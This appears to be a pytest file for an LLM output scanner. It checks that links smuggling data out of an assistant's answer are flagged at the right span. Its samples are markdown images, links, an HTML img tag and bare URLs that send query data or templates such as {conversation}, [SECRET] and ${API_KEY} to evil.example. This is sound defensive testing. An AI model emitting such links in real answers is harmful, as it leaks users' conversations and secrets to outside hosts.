"""Each exfiltration link shape is flagged at its span; allowed hosts and plain links are not."""

from __future__ import annotations

import pytest

from railguard.builtins.injection import THRESHOLD, combined, scan

ANSWER = "Here is the summary you asked for. {} Anything else?"

# (name, planted link, the indicator id); the hit covers the whole planted link
SHAPES = [
    ("markdown image with a query", "![a](https://evil.example/p.png?d=Q3-draft)", "image_data"),
    (
        "markdown image with data in the path",
        "![a](https://evil.example/c/SGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh/x.png)",
        "image_data",
    ),
    (
        "markdown image to a template",
        "![a](https://evil.example/p.png?q={conversation})",
        "image_template",
    ),
    (
        "markdown link with a long query",
        "[click](https://evil.example/l?data=john.doe%40acme.com%3Bpw%3Dhunter2)",
        "link_data",
    ),
    (
        "markdown link to a placeholder",
        "[here](https://evil.example/?secret=[SECRET])",
        "link_template",
    ),
    ("HTML image", '<img src="https://evil.example/t.gif?u=ana&k=42', "image_data"),
    (
        "bare URL with a long query",
        "https://evil.example/c?" + "x=" + "a1b2c3d4" * 13,
        "long_query",
    ),
    ("bare URL template", "https://evil.example/log?v=${API_KEY}", "url_template"),
]


@pytest.mark.parametrize(("link", "rule"), [s[1:] for s in SHAPES], ids=[s[0] for s in SHAPES])
def test_each_link_shape_is_found_at_its_span(link: str, rule: str) -> None:
    text = ANSWER.format(link)
    hits = [h for h in scan(text, kinds=["exfiltration"]) if h.rule == rule]
    assert hits, f"{rule} not found in {text!r}: {scan(text)}"
    start = text.index(link)
    assert (hits[0].start, hits[0].end) == (start, start + len(link))


FLAGGED = [s for s in SHAPES if s[2] != "long_query"]


@pytest.mark.parametrize("link", [s[1] for s in FLAGGED], ids=[s[0] for s in FLAGGED])
def test_every_exfiltration_case_is_flagged(link: str) -> None:
    assert combined(scan(ANSWER.format(link))) >= THRESHOLD


def test_a_long_bare_query_is_reported_but_weak_alone() -> None:
    text = ANSWER.format("https://shop.example/p?" + "utm=" + "x" * 120)
    hits = scan(text)
    assert [h.rule for h in hits] == ["long_query"]
    assert combined(hits) < THRESHOLD


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://cdn.example/logo.png)",  # an image without data
        "[docs](https://example.org/guide)",  # a plain link
        "[next](/page/2?sort=asc)",  # a relative link
        "[mail](mailto:ana@acme.com?subject=hello-there-friend-of-mine)",
        "see https://example.org/search?q=weather",
    ],
)
def test_links_without_data_are_not_reported(text: str) -> None:
    assert scan(text, kinds=["exfiltration"]) == []


def test_allowed_hosts_and_their_subdomains() -> None:
    text = "![a](https://img.acme.com/p.png?d=secret) ![b](https://acme.com.evil.example/p?d=1)"
    hits = scan(text, kinds=["exfiltration"], hosts=["acme.com"])
    assert [text[h.start : h.end] for h in hits] == ["![b](https://acme.com.evil.example/p?d=1)"]
